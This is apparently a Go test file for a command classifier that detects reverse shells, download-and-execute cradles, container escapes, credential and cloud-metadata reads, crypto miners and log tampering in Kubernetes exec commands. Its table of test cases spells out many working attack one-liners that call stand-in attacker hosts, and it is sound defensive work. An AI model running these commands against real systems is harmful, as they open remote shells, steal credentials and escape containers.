package detect

import (
	"slices"
	"strings"
	"testing"
)

// TestClassifyCommand covers real-world commands: the reverse shells,
// download cradles and escapes of public cheat sheets and incident
// reports (the patterns Elastic's "Kubernetes Pod Exec Potential Reverse
// Shell", "... Cloud Instance Metadata Access" and "... Sensitive File or
// Credential Path Access" rules look for), and the commands containers and
// probes run every day, which must stay quiet.
func TestClassifyCommand(t *testing.T) {
	tests := []struct {
		name string
		argv []string
		want []string // classes, worst first; nil: nothing
	}{
		// Reverse shells.
		{"bash /dev/tcp", []string{"bash", "-c", "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1"}, []string{CmdReverseShell}},
		{"sh fd on /dev/tcp", []string{"/bin/sh", "-c", "exec 5<>/dev/tcp/attacker.example/443;cat <&5 | while read line; do $line 2>&5 >&5; done"}, []string{CmdReverseShell}},
		{"udp", []string{"sh", "-c", "sh -i >& /dev/udp/10.0.0.5/53 0>&1"}, []string{CmdReverseShell}},
		{"nc -e", []string{"nc", "-e", "/bin/sh", "10.0.0.5", "4444"}, []string{CmdReverseShell}},
		{"nc flags cluster", []string{"nc", "-nve", "/bin/bash", "10.0.0.5", "4444"}, []string{CmdReverseShell}},
		{"ncat --sh-exec", []string{"ncat", "10.0.0.5", "4444", "--sh-exec", "/bin/bash"}, []string{CmdReverseShell}},
		{"busybox nc", []string{"busybox", "nc", "10.0.0.5", "4444", "-e", "sh"}, []string{CmdReverseShell}},
		{"mkfifo", []string{"sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.5 4444 >/tmp/f"}, []string{CmdReverseShell}},
		{"socat exec", []string{"socat", "exec:'bash -li',pty,stderr,setsid,sigint,sane", "tcp:10.0.0.5:4444"}, []string{CmdReverseShell}},
		{"python socket + pty", []string{"python3", "-c", `import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.5",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty;pty.spawn("/bin/bash")`},
			[]string{CmdReverseShell, CmdTTYUpgrade}},
		{"perl socket", []string{"perl", "-e", `use Socket;$i="10.0.0.5";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};`}, []string{CmdReverseShell}},
		{"php fsockopen", []string{"php", "-r", `$sock=fsockopen("10.0.0.5",4444);exec("/bin/sh -i <&3 >&3 2>&3");`}, []string{CmdReverseShell}},
		{"ruby TCPSocket", []string{"ruby", "-rsocket", "-e", `f=TCPSocket.open("10.0.0.5",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)`}, []string{CmdReverseShell}},
		{"awk inet", []string{"awk", `BEGIN {s = "/inet/tcp/0/10.0.0.5/4444"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}`, "/dev/null"}, []string{CmdReverseShell}},
		{"lua socket", []string{"lua", "-e", `require('socket');require('os');t=socket.tcp();t:connect('10.0.0.5','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');`}, []string{CmdReverseShell}},
		{"node net.Socket", []string{"node", "-e", `var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"10.0.0.5",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});`}, []string{CmdReverseShell}},
		{"telnet pipes", []string{"sh", "-c", "telnet 10.0.0.5 4444 | /bin/sh | telnet 10.0.0.5 4445"}, []string{CmdReverseShell}},
		{"zsh ztcp", []string{"zsh", "-c", "zmodload zsh/net/tcp && ztcp 10.0.0.5 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY"}, []string{CmdReverseShell}},
		{"tty upgrade", []string{"python3", "-c", "import pty; pty.spawn('/bin/bash')"}, []string{CmdTTYUpgrade}},
		{"script tty", []string{"script", "-qc", "/bin/bash", "/dev/null"}, []string{CmdTTYUpgrade}},

		// Download and run.
		{"curl | sh", []string{"sh", "-c", "curl -fsSL http://203.0.113.7/x.sh | sh"}, []string{CmdDownloadExec, CmdToolTransfer}},
		{"wget | bash -s", []string{"bash", "-c", "wget -qO- https://evil.example/i.sh | bash -s -- --silent"}, []string{CmdDownloadExec, CmdToolTransfer}},
		{"curl | sudo bash", []string{"sh", "-c", "curl -s https://evil.example/i.sh | sudo bash"}, []string{CmdDownloadExec, CmdToolTransfer}},
		{"curl | python3", []string{"sh", "-c", "curl -s http://evil.example/a.py | python3"}, []string{CmdDownloadExec, CmdToolTransfer}},
		{"download chmod run", []string{"sh", "-c", "curl -s http://203.0.113.7/m -o /tmp/m && chmod +x /tmp/m && /tmp/m"}, []string{CmdDownloadExec, CmdToolTransfer}},
		{"process substitution", []string{"bash", "-c", "bash <(curl -s https://evil.example/a.sh)"}, []string{CmdDownloadExec, CmdToolTransfer}},
		{"command substitution", []string{"sh", "-c", `sh -c "$(curl -fsSL https://raw.example/install.sh)"`}, []string{CmdDownloadExec, CmdToolTransfer}},
		{"busybox wget", []string{"sh", "-c", "busybox wget -O - http://203.0.113.7/x | sh"}, []string{CmdDownloadExec, CmdToolTransfer}},

		{"base64 dropper", []string{"sh", "-c", "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuNS80NDQ0IDA+JjE= | base64 -d | bash"}, []string{CmdDecodeExec}},
		{"xxd dropper", []string{"sh", "-c", "xxd -r -p payload.hex | sh"}, []string{CmdDecodeExec}},

		// Escapes to the node.
		{"nsenter pid 1", []string{"nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "bash"}, []string{CmdEscapeToHost}},
		{"nsenter -t 1", []string{"nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"}, []string{CmdEscapeToHost}},
		{"chroot host", []string{"chroot", "/host", "bash"}, []string{CmdEscapeToHost}},
		{"core_pattern", []string{"sh", "-c", "echo '|/tmp/x' > /proc/sys/kernel/core_pattern"}, []string{CmdEscapeToHost}},
		{"release_agent", []string{"sh", "-c", `echo 1 > /tmp/cgrp/x/notify_on_release; echo "$host_path/cmd" > /tmp/cgrp/release_agent`}, []string{CmdEscapeToHost}},
		{"docker socket", []string{"docker", "-H", "unix:///var/run/docker.sock", "run", "-v", "/:/host", "alpine"}, []string{CmdEscapeToHost}},
		{"crictl", []string{"crictl", "ps"}, []string{CmdEscapeToHost}},
		{"mount host disk", []string{"mount", "/dev/sda1", "/mnt"}, []string{CmdEscapeToHost}},
		{"proc 1 root", []string{"ls", "/proc/1/root/etc/kubernetes"}, []string{CmdEscapeToHost}},

		// Credentials and metadata.
		{"sa token", []string{"cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"}, []string{CmdCredentialFile}},
		{"sa token to the API", []string{"sh", "-c", `curl -sk -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://kubernetes.default.svc/api/v1/secrets`}, []string{CmdCredentialFile}},
		{"shadow", []string{"cat", "/etc/shadow"}, []string{CmdCredentialFile}},
		{"admin kubeconfig", []string{"cat", "/etc/kubernetes/admin.conf"}, []string{CmdCredentialFile}},
		{"aws credentials", []string{"cat", "/root/.aws/credentials"}, []string{CmdCredentialFile}},
		{"aws IMDS", []string{"curl", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"}, []string{CmdCloudMetadata}},
		{"aws IMDS IPv6", []string{"wget", "-qO-", "http://[fd00:ec2::254]/latest/meta-data/"}, []string{CmdCloudMetadata}},
		{"gcp metadata", []string{"curl", "-H", "Metadata-Flavor: Google", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"}, []string{CmdCloudMetadata}},
		{"ecs task credentials", []string{"curl", "http://169.254.170.2/v2/credentials/abc"}, []string{CmdCloudMetadata}},

		// Miners, anti-forensics, transfers, shells.
		{"xmrig", []string{"/tmp/xmrig", "-o", "stratum+tcp://pool.example:3333", "-u", "wallet"}, []string{CmdMiner}},
		{"renamed miner", []string{"sh", "-c", "./kworker -o stratum+tcp://pool.example:443"}, []string{CmdMiner}},
		{"history off", []string{"sh", "-c", "unset HISTFILE; history -c"}, []string{CmdHistoryTamper}},
		{"history removed", []string{"rm", "-f", "/root/.bash_history"}, []string{CmdHistoryTamper}},
		{"logs shredded", []string{"shred", "-u", "/var/log/auth.log"}, []string{CmdHistoryTamper}},
		{"tool download", []string{"curl", "-o", "/tmp/tool", "https://github.com/x/y/releases/download/v1/tool"}, []string{CmdToolTransfer}},
		{"wget payload", []string{"wget", "http://203.0.113.9/payload"}, []string{CmdToolTransfer}},
		{"sh", []string{"/bin/sh"}, []string{CmdInteractiveShell}},
		{"bash -i", []string{"bash", "-i"}, []string{CmdInteractiveShell}},
		{"bash login", []string{"bash", "--login"}, []string{CmdInteractiveShell}},
		{"busybox sh", []string{"busybox", "sh"}, []string{CmdInteractiveShell}},
		{"zsh -il", []string{"zsh", "-il"}, []string{CmdInteractiveShell}},

		// What containers and people run every day.
		{"entrypoint exec", []string{"sh", "-c", "exec nginx -g 'daemon off;'"}, nil},
		{"entrypoint script", []string{"/bin/sh", "-c", "/docker-entrypoint.sh nginx"}, nil},
		{"bash script", []string{"bash", "/usr/local/bin/entrypoint.sh"}, nil},
		{"wait for db", []string{"sh", "-ec", "until nc -z db 5432; do sleep 1; done"}, nil},
		{"tcp probe localhost", []string{"sh", "-c", "echo > /dev/tcp/127.0.0.1/8080"}, nil},
		{"tcp probe localhost name", []string{"bash", "-c", "cat < /dev/null > /dev/tcp/localhost/5432"}, nil},
		{"health check", []string{"curl", "-f", "http://localhost:8080/healthz"}, nil},
		{"service metrics", []string{"curl", "-s", "http://cart.shop.svc.cluster.local:8080/metrics"}, nil},
		{"short service name", []string{"wget", "-q", "--spider", "http://web:80/"}, nil},
		{"private address", []string{"curl", "http://10.96.0.10:9153/metrics"}, nil},
		{"pretty-print json", []string{"sh", "-c", "curl -s http://localhost:9090/api/v1/status | python3 -m json.tool"}, nil},
		{"list token dir", []string{"ls", "-la", "/var/run/secrets/kubernetes.io/serviceaccount/"}, nil},
		{"passwd", []string{"cat", "/etc/passwd"}, nil},
		{"python app", []string{"python3", "app.py"}, nil},
		{"hostname via socket", []string{"python", "-c", "import socket; print(socket.gethostname())"}, nil},
		{"java", []string{"java", "-jar", "/app/app.jar"}, nil},
		{"port scan of a dependency", []string{"nc", "-zv", "db", "5432"}, nil},
		{"ps", []string{"ps", "aux"}, nil},
		{"ls", []string{"sh", "-c", "ls /app"}, nil},
		{"decode to a file", []string{"sh", "-c", "echo $CERT | base64 -d > /etc/tls/tls.crt"}, nil},
		{"or-else is not a pipe", []string{"sh", "-c", "curl -sf http://localhost/health || sh /recover.sh"}, nil},
		{"empty", nil, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := ClassifyCommand(tt.argv)
			var classes []string
			for _, m := range got {
				classes = append(classes, m.Class)
				if m.Why == "" || len(m.MITRE) == 0 || m.Severity < Medium {
					t.Errorf("incomplete match %+v", m)
				}
			}
			if !slices.Equal(classes, tt.want) {
				t.Errorf("ClassifyCommand(%q) = %v, want %v", strings.Join(tt.argv, " "), classes, tt.want)
			}
		})
	}
}

// TestClassifyCommandSeverity pins the severity of each class.
func TestClassifyCommandSeverity(t *testing.T) {
	for argv, want := range map[string]Severity{
		"nc -e /bin/sh 10.0.0.5 4444":             Critical,
		"nsenter -t 1 -m sh":                      Critical,
		"cat /etc/shadow":                         High,
		"curl http://169.254.169.254/latest":      High,
		"sh -c curl http://203.0.113.7/x.sh | sh": High,
		"bash": Medium,
		"curl -O https://example.org/tool.tar.gz":    Medium,
		"sh -c unset HISTFILE":                       Medium,
		"python3 -c import pty;pty.spawn('/bin/sh')": High,
	} {
		got := ClassifyCommand(strings.Fields(argv))
		if len(got) == 0 || got[0].Severity != want {
			t.Errorf("ClassifyCommand(%q) = %+v, want first severity %v", argv, got, want)
		}
	}
}
